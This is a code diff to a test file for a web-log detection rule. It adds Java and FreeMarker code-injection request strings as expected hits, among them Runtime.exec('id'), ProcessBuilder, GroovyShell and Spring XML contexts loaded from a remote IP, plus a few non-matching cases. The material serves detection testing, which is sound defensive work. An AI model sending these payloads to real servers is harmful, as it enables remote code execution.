@@ -1,3 +1,4 @@
+import { each } from '../example.ts'
 import { defineRule } from '../rule.ts'
 
 export default defineRule({
@@ -43,10 +44,30 @@ export default defineRule({
     "GET /a?x=java.lang.Runtime.getRuntime().exec('id') HTTP/1.1",
     'GET /a?x=new+javax.script.ScriptEngineManager() HTTP/1.1',
     'GET /a?x="freemarker.template.utility.Execute"?new() HTTP/1.1',
+    'GET /a?x="freemarker.template.utility.ObjectConstructor"?new() HTTP/1.1',
+    'GET /a?x="freemarker.template.utility.JythonRuntime"?new() HTTP/1.1',
+    "GET /java.lang.Runtime.getRuntime().exec('id') HTTP/1.1",
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: "https://www.example.com/a?x=java.lang.Runtime.getRuntime().exec('id')",
+    },
+    { request: 'GET / HTTP/1.1', agent: "java.lang.Runtime.getRuntime().exec('id')" },
+    { request: 'GET / HTTP/1.1', user: "java.lang.Runtime.getRuntime().exec('id')" },
+    ...each(
+      'GET /a?x={} HTTP/1.1',
+      `getRuntime().a java.lang.Runtime java.lang.ProcessBuilder java.lang.ProcessImpl new+ProcessBuilder
+    ProcessBuilder('id') IOUtils.toString(a) com.sun.rowset.JdbcRowSetImpl FileSystemXmlApplicationContext('http://203.0.113.9/a')
+    ClassPathXmlApplicationContext('http://203.0.113.9/a') groovy.lang.GroovyShell new+java.net.URL('http://203.0.113.9')
+    new+java.util.Scanner(a) 'id'.execute().text`,
+    ),
   ],
   misses: [
     'GET /api/java/lang/Runtime.html HTTP/1.1',
     'GET /docs/java.lang.Runtime.html HTTP/1.1',
     'GET /q?text=processbuilder HTTP/1.1',
+    {
+      message:
+        'upstream timed out, request: "GET /a?x=java.lang.Runtime.getRuntime().exec(\'id\') HTTP/1.1"',
+    },
   ],
 })
